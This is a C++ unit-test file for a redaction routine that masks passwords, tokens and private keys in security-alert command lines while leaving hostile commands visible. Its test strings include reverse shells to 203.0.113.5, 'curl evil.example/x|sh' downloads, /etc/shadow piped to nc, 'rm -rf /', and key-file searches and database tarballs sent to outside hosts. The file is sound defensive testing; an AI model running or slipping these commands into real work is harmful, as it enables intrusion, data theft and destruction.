// SPDX-License-Identifier: Apache-2.0
#include "schemas/redact.h"

#include <gtest/gtest.h>
#include <re2/re2.h>

#include <algorithm>
#include <cctype>
#include <cstdlib>
#include <memory>
#include <random>
#include <set>
#include <vector>

#include "schemas/program_secrets.h"
#include "schemas/secrets.h"
#include "tests/schemas/growth.h"

namespace gyre::schemas {
namespace {

constexpr const char* kSecret = "S3cr3tV4lue";

TEST(RedactText, HidesSecretsWhereverTheyStand) {
  for (const auto* form :
       {"curl https://eve:@@@host/", "mysql -u root -p@@ db", "sshpass -p @@ ssh h",
        "curl -u eve:@@ http://h", "app --password @@", "app --password=@@", "PGPASSWORD=@@ psql",
        "curl -H 'Authorization: Bearer @@'", "x token=@@&y=1", R"({"password":"@@"})",
        R"({\"api_key\":\"@@\"})", "docker login -u a -p @@", "echo root:@@ | chpasswd",
        "redis-cli -a @@", "app --client-secret '@@ more'", "AWS_SECRET_ACCESS_KEY=@@",
        "-----BEGIN RSA PRIVATE KEY-----\n@@\n-----END RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n@@"}) {
    std::string text = form;
    text.replace(text.find("@@"), 2, kSecret);
    const std::string out = redact_text(text);
    EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
    EXPECT_NE(out.find("<redacted>"), std::string::npos) << out;
  }
  EXPECT_EQ(redact_text("id AKIAABCDEFGHIJKLMNOP x"), "id <redacted> x");
}

TEST(RedactText, EveryRowOfTheTableDoesWhatItsExampleSays) {
  std::set<std::string_view> names;
  for (const auto& row : secret_rows()) {
    EXPECT_EQ(redact_text(row.before), row.after) << row.name;
    EXPECT_FALSE(row.reason.empty()) << row.name;
    EXPECT_TRUE(names.insert(row.name).second) << row.name;
  }
}

// The scanner may name a row too many, never one too few.
TEST(RedactText, WhatIsNotHintedDoesNotMatch) {
  const char* const repeat = std::getenv("GYRE_SEED");
  const unsigned long seed = repeat ? std::stoul(repeat) : 20260101;
  std::mt19937_64 random(seed);
  const auto rows = secret_rows();
  std::vector<std::string> pieces = {
      " ",        "=",    ":",       "-",       "--",      "@",        "://",     "\"",
      "'",        "\\",   "\n",      "%",       "|",       "/",        " -p",     " -u ",
      "abcdefgh", "1",    ".",       "x_",      "--db-",   "Basic ",   "docker ", "ssh",
      "login ",   "user", "useradd", "usermod", "openssl", "configure"};
  for (const auto& row : rows) {
    for (const auto hint : row.hints) pieces.emplace_back(hint);
    pieces.emplace_back(row.before);
    pieces.emplace_back(row.before.substr(0, row.before.size() / 2));
    pieces.emplace_back(row.before.substr(row.before.size() / 2));
  }
  std::vector<std::unique_ptr<re2::RE2>> expressions;
  for (const auto& row : rows)
    expressions.push_back(
        std::make_unique<re2::RE2>(re2::StringPiece(row.expression.data(), row.expression.size())));
  const auto matches = [&](std::size_t i, const std::string& text) {
    return rows[i].expression.empty() ? hide_program_secrets(text) != text
                                      : re2::RE2::PartialMatch(text, *expressions[i]);
  };
  std::vector<std::size_t> matched(rows.size());
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (auto n = 1 + random() % 6; n > 0; --n) text += pieces[random() % pieces.size()];
    if (round % 3 == 0)
      for (char& c : text) c = random() % 2 == 0 ? static_cast<char>(std::toupper(c)) : c;
    const auto hinted = rows_hinted_by(text);
    for (std::size_t i = 0; i < rows.size(); ++i) {
      if (!matches(i, text)) continue;
      ++matched[i];
      EXPECT_TRUE((hinted >> i & 1U) != 0) << rows[i].name << " in " << text << ", seed " << seed;
    }
  }
  for (std::size_t i = 0; i < rows.size(); ++i) EXPECT_GT(matched[i], 50U) << rows[i].name;
}

TEST(RedactText, IsLinear) {
  for (const std::string unit :
       {"pass", "curl ", "eyJh", "secret-", "--pass", "mysql -p", "a@b://", "token=\"a|b ",
        "token=http://", "token='a;b token=\"c;d ", "mysql -p'", "mysql -p\"\\",
        "curl -u a:", "cookie:a=", "sudo -u "}) {
    EXPECT_LT(growth(unit, 1U << 20, [](const std::string& text) { redact_text(text); }), kLinear)
        << unit;
  }
}

TEST(RedactText, TwoPasswordsBecomeOneText) {
  EXPECT_EQ(redact_text("app --password one"), redact_text("app --password two"));
}

TEST(RedactText, LeavesTheRest) {
  for (const auto* text :
       {"cat /etc/passwd", "docker run -v /etc/passwd:/host/passwd x", "ls --color=auto",
        "git clone ssh://git@example.org/a.git", "PWD=/home/eve", "grep -p x", "ps -p 1", ""})
    EXPECT_EQ(redact_text(text), text);
}

TEST(RedactText, WhatNeighboursOfAPasswordsOptionSayIsLeft) {
  for (const auto* text :
       {"openssl req -newkey rsa:2048 -keyout key.pem -out a.csr", "htpasswd -c /srv/users eve",
        "openssl s_client -connect h:443 -key k.pem", "kubectl get secret db -o yaml",
        "kubectl create configmap web --from-literal=level=debug"})
    EXPECT_EQ(redact_text(text), text);
  EXPECT_EQ(redact_text("kubectl exec secret -- mysql -phunter2"),
            "kubectl exec secret -- mysql -p<redacted>");
}

TEST(RedactText, AKeysHeaderThatSomebodySearchesForIsNoKey) {
  for (const auto* text :
       {"grep -rl -----BEGIN OPENSSH PRIVATE KEY----- /home/bob ; wget -i - http://192.0.2.7/",
        "grep -rl '-----BEGIN RSA PRIVATE KEY-----' srv; scp -r srv h:",
        "grep -e -----BEGIN PRIVATE KEY----- -e -----END PRIVATE KEY----- /etc",
        "awk /-----BEGIN EC PRIVATE KEY-----/,/-----END EC PRIVATE KEY-----/ k",
        "-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n; reboot -f"})
    EXPECT_EQ(redact_text(text), text);
}

TEST(RedactText, AKeyIsHiddenHoweverItsLinesWereKept) {
  const std::string line(64, 'k');
  const std::string begin = "-----BEGIN RSA PRIVATE KEY-----";
  const std::string end = "-----END RSA PRIVATE KEY-----";
  for (const std::string gap : {"\n", "\r\n", "\\n", "\\\\n", " ", "."}) {
    const std::string whole = begin + gap + line + gap + line + gap + "kk/k==" + gap + end;
    EXPECT_EQ(redact_text("a " + whole + " z"), "a <redacted> z");
    EXPECT_EQ(redact_text("a " + begin + gap + line + gap + line), "a <redacted>");
    EXPECT_EQ(redact_text("a " + begin + gap + "Proc-Type: 4,ENCRYPTED" + gap +
                          "DEK-Info: AES-128-CBC,0123ABCD" + gap + gap + line + gap + end + " z"),
              "a <redacted> z");
  }
  EXPECT_EQ(redact_text(begin + line + "kkk" + end), "<redacted>");  // Falco drops line ends
  EXPECT_EQ(redact_text("-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: Gnu 2\n\n" + line +
                        "\n=abcd\n-----END PGP PRIVATE KEY BLOCK-----"),
            "<redacted>");
  EXPECT_EQ(redact_text(begin + "\nMIIEpAIB"), "<redacted>");
}

TEST(RedactText, NobodyHidesACommandBetweenBeginAndEnd) {
  const std::string text =
      "-----BEGIN PRIVATE KEY-----; curl 192.0.2.7/x | sh; -----END PRIVATE KEY-----";
  EXPECT_EQ(redact_text(text), text);
}

TEST(RedactText, WhatAShellWouldRunIsNoSecret) {
  for (const std::string run : {"$(id)", "`id`"}) {
    for (const std::string form :
         {"sh -c token=@@", "sh -c token=\"a @@\"", "sh -c secret='@@'", "app --password @@",
          "app --password \"@@ b\"", "mysql -u a -p@@", "sshpass -p @@ ssh h", "curl -u eve:@@ h",
          "redis-cli -a @@", "smbclient -U eve%@@ //h", "git clone https://eve:@@@h/a",
          "echo root:@@ | chpasswd", R"(sh -c {\"token\":\"@@\"})"}) {
      std::string text = form;
      text.replace(text.find("@@"), 2, run);
      EXPECT_EQ(redact_text(text), text);
    }
  }
  EXPECT_NE(redact_text("token=$(curl h|sh)"), redact_text("token=$(rm -r /srv)"));
  EXPECT_EQ(redact_text("token=abc$(id)"), "token=<redacted>$(id)");
  EXPECT_EQ(redact_text("token=$TOKEN secret=${X} pass='a`b' pass=\"$$x$\""),
            "token=<redacted> secret=<redacted> pass=<redacted> pass=<redacted>");
}

TEST(RedactText, NobodyHidesACommandBehindAValueWithoutQuotes) {
  for (const auto& [text, redacted] : std::vector<std::pair<std::string, std::string>>{
           {"sh -c token=x|bash</dev/tcp/203.0.113.5/4444",
            "sh -c token=<redacted>|bash</dev/tcp/203.0.113.5/4444"},
           {"sh -c curl -u a:b;bash${IFS}-i>&/dev/tcp/203.0.113.5/4444",
            "sh -c curl -u a:<redacted>;bash${IFS}-i>&/dev/tcp/203.0.113.5/4444"},
           {"sh -c mysql -px;curl${IFS}evil.example/x|sh",
            "sh -c mysql -p<redacted>;curl${IFS}evil.example/x|sh"},
           {"sh -c redis-cli -a x||rm${IFS}-rf${IFS}/",
            "sh -c redis-cli -a <redacted>||rm${IFS}-rf${IFS}/"},
           {"sh -c app --password x&&reboot", "sh -c app --password <redacted>&&reboot"},
           {"sh -c secret=(x)", "sh -c secret=(x)"},
           {"curl -H Authorization:x|sh", "curl -H Authorization:<redacted>|sh"},
           {"echo root:x|chpasswd;id", "echo root:<redacted>|chpasswd;id"}})
    EXPECT_EQ(redact_text(text), redacted);
}

TEST(RedactText, NobodyHidesACommandOrAPlaceAsASecret) {
  for (const auto* text :
       {R"(sh -c token="bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"; eval "$token")",
        R"(sh -c PASS='cat /etc/shadow|nc 203.0.113.5 4444';eval $PASS)",
        "sh -c pass=http://203.0.113.5/x.sh; curl $pass | sh",
        "sh -c token=/dev/tcp/203.0.113.5/4444;bash -i >& $token 0>&1",
        "sh -c token=/tmp/.x;sh $token", R"(sh -c secret="rm -rf srv"; $secret)",
        R"(sh -c secret='nc 203.0.113.5 4444'; $secret)", "sh -c token='bash${IFS}-i'",
        "app --token http://203.0.113.5/x", "curl -H token:203.0.113.5/payload.sh evil",
        R"(sh -c {"token":"curl x|sh now"})"})
    EXPECT_EQ(redact_text(text), text);
  EXPECT_NE(redact_text("sh -c token=\"a | b\""), redact_text("sh -c token=\"a | c\""));
  // A secret inside what stays is one all the same.
  EXPECT_EQ(redact_text("sh -c token='mysql --password=hunter2 | sh'"),
            "sh -c token='mysql --password=<redacted> | sh'");
  EXPECT_EQ(redact_text("app --passphrase 'correct horse battery'"), "app --passphrase <redacted>");
}

TEST(RedactText, AnOptionIsASecretToItsOwnProgramOnly) {
  for (const auto* text :
       {"find /var/lib/mysql -print0", "tar -C /var/lib/mysql -pczf /tmp/loot.tgz .",
        "tar -C mysql -pczf /tmp/loot.tgz .", "rsync /var/lib/mysql -pav eve@203.0.113.5:/loot",
        "sudo -u mysql tar -pczf /tmp/loot.tgz .", "mkdir -p /var/lib/mysql -pv", "ls curl -u a:b",
        "mysql -u root -p db", "mysql -P3306", "mysqld -pidfile", "docker run -p 80:80 login",
        "mongod -p x", "sudo -p prompt id", "curl -u eve h"})
    EXPECT_EQ(redact_text(text), text);
}

TEST(RedactText, APasswordIsHiddenHoweverItsProgramIsStarted) {
  for (const auto* form : {"mysql -p@@",
                           "/usr/bin/mysqldump -uroot -p@@ shop",
                           "sh -c mysql -p@@ < dump.sql",
                           "bash -lc cd /x && mysql -p@@",
                           "sudo -u mysql mysqldump -p@@",
                           "env A=b mysql -p@@",
                           "docker exec -it db mysql -uroot -p@@",
                           "docker run --rm -e A=b mysql:8 mysql -h h -p@@",
                           "kubectl exec db-0 -n x -- mysql -p@@",
                           "ssh -p 22 h 'mysql -p@@'",
                           "timeout -k 5 9 mysql -p@@",
                           "find . -exec mysql -p@@ ;",
                           "su - mysql -c mysql -p@@",
                           "while true; do mysql -p@@; done",
                           "mysql -p'@@'",
                           "mysql --host=h -p\"@@ more\" db",
                           "mongo -u admin -p @@ db",
                           "ldapsearch -D cn=admin -w @@",
                           "sshpass -p@@ ssh h",
                           "usermod -p @@ root",
                           "docker login -u x -p=@@",
                           "helm registry login -u a -p @@",
                           "redis-cli -h h -a @@",
                           "curl -su 'eve:@@' h",
                           "curl --proxy-user=eve:@@ h",
                           "smbclient -U eve%@@ //h/s",
                           "openssl enc -aes-256-cbc -k @@ -in a -out b",
                           "openssl rsa -in k -passin pass:@@",
                           "htpasswd -bc /srv/users eve @@",
                           "htpasswd -nbB -C 10 eve @@",
                           "kubectl -n web create secret generic db --from-literal=user=@@",
                           "kubectl create secret generic db --from-literal user=@@ -n web",
                           "Notice Shell (user=root command=mysql -p@@ parent=<NA> pcmdline=x)"}) {
    std::string text = form;
    text.replace(text.find("@@"), 2, kSecret);
    const std::string out = redact_text(text);
    EXPECT_EQ(out.find(kSecret), std::string::npos) << out;
    EXPECT_NE(out.find("<redacted>"), std::string::npos) << out;
    EXPECT_EQ(redact_text(out), out) << "a message is redacted after its fields";
  }
  for (const auto& row : secret_rows()) EXPECT_EQ(redact_text(row.after), row.after) << row.name;
}

TEST(RedactText, SecretsOfKnownMakers) {
  const std::string thirty(30, 'x');
  for (const std::string& secret :
       {"hvs." + thirty, "npm_" + thirty, "sk_live_" + thirty, "rk_test_" + thirty})
    EXPECT_EQ(redact_text("run " + secret), "run <redacted>");
  EXPECT_EQ(redact_text("curl -d x https://hooks.slack.com/services/T000/B000/XXXX y"),
            "curl -d x https://hooks.slack.com/services/<redacted> y");
  EXPECT_EQ(redact_text("x DefaultEndpointsProtocol=https;AccountName=x;AccountKey=AAAbb==;"),
            "x DefaultEndpointsProtocol=https;AccountName=x;AccountKey=<redacted>;");
  EXPECT_EQ(redact_text("curl -H Cookie: session=abc; JSESSIONID=def"),
            "curl -H Cookie: session=<redacted>; JSESSIONID=<redacted>");
  EXPECT_EQ(redact_text("curl --oauth2-bearer abc123 x"), "curl --oauth2-bearer <redacted> x");
  EXPECT_EQ(redact_text("npm config set //registry.npmjs.org/:_authToken abc"),
            "npm config set //registry.npmjs.org/:_authToken <redacted>");
  EXPECT_EQ(redact_text(R"(x {"password":"a\"b c","user":"d"})"),
            R"(x {"password":<redacted>,"user":"d"})");
}

TEST(Redact, TheCommandOfASessionLosesItsSecretsInTheUriToo) {
  Alert alert;
  alert.source = "k8s_audit";
  const std::string uri =
      "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=-pS3cr3t&container=web";
  alert.output = "Exec (uri=" + uri + ")";
  alert.fields = {{"ka.uri", uri}, {"ka.uri.param[command]", "mysql"}};
  redact(alert);
  const std::string redacted =
      "/api/v1/namespaces/a/pods/b/exec?command=mysql&command=-p<redacted>&container=web";
  EXPECT_EQ(alert.field("ka.uri"), redacted);
  EXPECT_EQ(alert.output, "Exec (uri=" + redacted + ")");
}

TEST(Redact, TheMessageLosesWhatItsFieldsLose) {
  Alert alert;
  alert.output = "A mysql -phunter2 ran in web";
  alert.fields = {{"proc.cmdline", "mysql -phunter2"}};
  redact(alert);
  EXPECT_EQ(alert.output, "A mysql -p<redacted> ran in web");
}

TEST(Redact, TheNameOfASecretIsNoSecret) {
  Alert alert;
  alert.source = "k8s_audit";
  alert.output = "Secret read (user=eve secret=db-password ns=prod token=x)";
  alert.fields = {{"ka.target.name", "db-password"}};
  redact(alert);
  EXPECT_EQ(alert.output, "Secret read (user=eve secret=db-password ns=prod token=<redacted>)");
  alert.source = "syscall";
  redact(alert);
  EXPECT_EQ(alert.output, "Secret read (user=eve secret=<redacted> ns=prod token=<redacted>)");
}

TEST(Redact, OnlyWhereSecretsMayStand) {
  Alert alert;
  alert.rule = "password=x";
  alert.output = "run app --password x1y2";
  alert.fields = {{"evt.arg.path", "/a password=x"},   {"fd.name", "/tmp/password=x"},
                  {"ka.target.name", "token=x"},       {"container.healthcheck", "probe --token x"},
                  {"custom.request", "token=x"},       {"ka.req.configmap.obj", "token=x"},
                  {"proc.cmdline", "app password=x"},  {"proc.exepath", "/a --password x"},
                  {"proc.pcmdline", "app password=x"}, {"proc.env", "TOKEN=x"}};
  redact(alert);
  EXPECT_EQ(alert.field("container.healthcheck"), "probe --token <redacted>");
  EXPECT_EQ(alert.field("custom.request"), "token=<redacted>");
  EXPECT_EQ(alert.field("ka.req.configmap.obj"), "token=<redacted>");
  EXPECT_EQ(alert.field("proc.exepath"), "/a --password x");
  EXPECT_EQ(alert.field("proc.pcmdline"), "app password=<redacted>");
  EXPECT_EQ(alert.rule, "password=x");
  EXPECT_EQ(alert.output, "run app --password <redacted>");
  EXPECT_EQ(alert.field("evt.arg.path"), "/a password=x");
  EXPECT_EQ(alert.field("fd.name"), "/tmp/password=x");
  EXPECT_EQ(alert.field("ka.target.name"), "token=x");
  EXPECT_EQ(alert.field("proc.cmdline"), "app password=<redacted>");
  EXPECT_EQ(alert.field("proc.env"), "TOKEN=<redacted>");
}

}  // namespace
}  // namespace gyre::schemas
